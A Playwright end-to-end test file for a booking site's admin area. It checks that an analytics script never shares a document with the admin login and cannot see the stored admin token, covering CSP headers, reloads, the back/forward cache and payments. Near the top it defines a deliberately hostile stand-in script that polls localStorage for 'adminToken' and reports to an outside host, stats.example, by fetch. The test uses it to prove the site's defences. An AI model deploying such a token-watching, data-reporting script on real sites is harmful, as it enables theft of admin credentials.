import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAdmin } from '../../graphql-server/test/admin';
import { CLASS_DATE, createClass } from '../../graphql-server/test/classes';
import { eventually } from '../../graphql-server/test/eventually';
import { expectCleanConsole, type Journey, openJourney, type Visitor } from './journey';
import { heading, previous, signInAsAdmin, walkToConfirm } from './steps';

const SRC = 'https://stats.example/count.js';
const PASSWORD = 'a long way to the sea';

/** A hostile script that tries to read the token: it polls every millisecond and listens to every event that may carry one. */
const SCRIPT = `(() => {
  const report = (event) => fetch('https://stats.example/' + event, { method: 'POST', mode: 'no-cors', keepalive: true, body: location.pathname });
  report('ran');
  let hasSeen = false;
  const look = (given) => {
    if (hasSeen || !(localStorage.getItem('adminToken') || given)) return;
    hasSeen = true;
    report('saw-token');
  };
  look();
  setInterval(look, 1);
  addEventListener('storage', ({ key, newValue }) => key === 'adminToken' && look(newValue));
  addEventListener('pageshow', () => look());
})();`;

/** The reports of the script: the paths at which it ran, and the paths at which it saw a token. */
type Reports = { ran: string[]; sawToken: string[] };

let journey: Journey;
beforeAll(async () => {
  journey = await openJourney({ ANALYTICS_SRC: SRC });
  await createAdmin(journey.server.deps.db, { username: 'marina', password: PASSWORD });
  await createClass(journey.server.deps.db, { title: 'Counted Flow', localTime: '08:40', capacity: 20 });
});
afterAll(() => journey.close());

async function listen(context: BrowserContext): Promise<Reports> {
  const reports: Reports = { ran: [], sawToken: [] };
  context.on('request', (request) => {
    const at = request.postData() ?? '';
    if (request.url().endsWith('/ran')) reports.ran.push(at);
    if (request.url().endsWith('/saw-token')) reports.sawToken.push(at);
  });
  await context.route('https://stats.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: route.request().url() === SRC ? SCRIPT : '' }),
  );
  return reports;
}

/** A visitor who accepted analytics earlier. */
async function visit(): Promise<{ visitor: Visitor; page: Page; reports: Reports }> {
  const visitor = await journey.visit({ localStorage: { analyticsConsent: 'granted' } });
  return { visitor, page: visitor.page, reports: await listen(visitor.context) };
}

async function logIn(page: Page): Promise<void> {
  await page.getByLabel('Username').fill('marina');
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.waitForURL('**/admin/dashboard');
  await heading(page).filter({ hasText: 'Welcome' }).waitFor();
}

/** Marks the document, so that a reload can be detected. */
const mark = (page: Page) => page.evaluate('window.isMarked = true');
const isMarked = (page: Page) => page.evaluate<boolean>('Boolean(window.isMarked)');
const hasScript = (page: Page) =>
  page.evaluate<boolean>(`Boolean(document.querySelector('script[src^="https://stats"]'))`);
/** Polls, because a page cannot be evaluated while it reloads. */
const untilReloaded = (page: Page) => eventually(async () => expect(await isMarked(page)).toBe(false));
const ranOn = (reports: Reports, path: string) => eventually(async () => expect(reports.ran).toContain(path));

describe('the admin area’s documents and the analytics script', () => {
  it('the admin area never shares a document with a public page, so that the analytics script sees no token', async () => {
    const { visitor, page, reports } = await visit();
    await page.goto('/about-me');
    await ranOn(reports, '/about-me');
    await page.goto('/admin/login');
    await mark(page);
    await page.getByRole('main').getByRole('link').click();
    await page.waitForURL(`${journey.server.url}/`);
    await ranOn(reports, '/');
    expect(await isMarked(page)).toBe(false);
    await mark(page);
    await page.goBack();
    await page.waitForURL('**/admin/login');
    expect(await isMarked(page)).toBe(false);
    await logIn(page);
    expect(await hasScript(page)).toBe(false);
    expect(reports).toEqual({ ran: ['/about-me', '/'], sawToken: [] });
    expectCleanConsole(visitor);
  });

  it('a public page that is sent to the admin area loads a new document', async () => {
    const { visitor, page, reports } = await visit();
    await page.goto('/about-me');
    await ranOn(reports, '/about-me');
    await mark(page);
    await page.evaluate(`navigator.serviceWorker.dispatchEvent(
      new MessageEvent('message', { data: { type: 'go-to', path: '/admin/security' } }))`);
    await page.waitForURL('**/admin/login');
    expect(await isMarked(page)).toBe(false);
    await logIn(page);
    expect(reports.sawToken).toEqual([]);
    expectCleanConsole(visitor);
  });

  it('the Content-Security-Policy of the admin area forbids the analytics script', async () => {
    const getPolicy = async (path: string) => {
      const response = await fetch(journey.server.url + path, { headers: { accept: 'text/html' } });
      return response.headers.get('content-security-policy');
    };
    expect(await getPolicy('/about-me')).toContain('https://stats.example');
    expect(await getPolicy('/admin/x-unknown')).toContain('https://stats.example');
    for (const path of ['/admin', '/admin/login', '/admin/classes/x?y', '/admin/dashboard/']) {
      expect(await getPolicy(path)).not.toContain('https://stats.example');
    }
  });
});

describe('a device on which an admin is signed in', () => {
  it('a device with a signed-in admin loads no analytics on public pages until the admin logs out', async () => {
    const visitor = await signInAsAdmin(journey, { localStorage: { analyticsConsent: 'granted' } });
    const { page } = visitor;
    const reports = await listen(visitor.context);
    for (const path of ['/', '/about-me', '/book/calendar', '/admin/x-unknown']) {
      await page.goto(path, { waitUntil: 'networkidle' });
      expect(await hasScript(page)).toBe(false);
    }
    await page.goto('/about-me');
    const other = await visitor.context.newPage();
    await other.goto('/admin/dashboard');
    await other.getByRole('button', { name: 'Menu' }).click();
    await other.getByRole('button', { name: 'Logout' }).click();
    await other.waitForURL('**/admin/login');
    await ranOn(reports, '/about-me');
    expect(reports).toEqual({ ran: ['/about-me'], sawToken: [] });
  });

  it('open public pages reload without the analytics script before the admin’s token is stored', async () => {
    const { visitor, page, reports } = await visit();
    await page.goto('/about-me');
    await ranOn(reports, '/about-me');
    const second = await visitor.context.newPage();
    await second.goto('/book/calendar');
    await ranOn(reports, '/book/calendar');
    const admin = await visitor.context.newPage();
    await admin.goto('/admin/login');
    await Promise.all([mark(page), mark(second)]);
    await logIn(admin);
    await Promise.all([untilReloaded(page), untilReloaded(second)]);
    await page.waitForLoadState('networkidle');
    expect([await hasScript(page), await hasScript(second)]).toEqual([false, false]);
    expect(reports).toEqual({ ran: ['/about-me', '/book/calendar'], sawToken: [] });
    expectCleanConsole(visitor);
  });

  it('a public page from the back/forward cache reloads without the analytics script while an admin is signed in', async () => {
    const { page, reports } = await visit();
    await page.goto('/about-me');
    await ranOn(reports, '/about-me');
    await mark(page);
    await page.evaluate(`localStorage.setItem('adminToken', 'x');
      window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));`);
    await untilReloaded(page);
    await page.waitForLoadState('networkidle');
    expect(await hasScript(page)).toBe(false);
  });

  it('a page with a running payment reloads without the analytics script only after the payment', async () => {
    const { page } = await visit();
    await walkToConfirm(page, CLASS_DATE, /08:40/, /^Pay Now/);
    await eventually(async () => expect(await hasScript(page)).toBe(true));
    await mark(page);
    await page.evaluate(`localStorage.setItem('adminToken', 'x');
      window.dispatchEvent(new StorageEvent('storage', { key: 'adminToken', newValue: 'x' }));`);
    await page.waitForTimeout(1_500);
    expect(await isMarked(page)).toBe(true);
    await previous(page).click();
    await page.waitForURL('**/payment-method');
    await untilReloaded(page);
    await page.waitForLoadState('networkidle');
    expect(await hasScript(page)).toBe(false);
  });
});
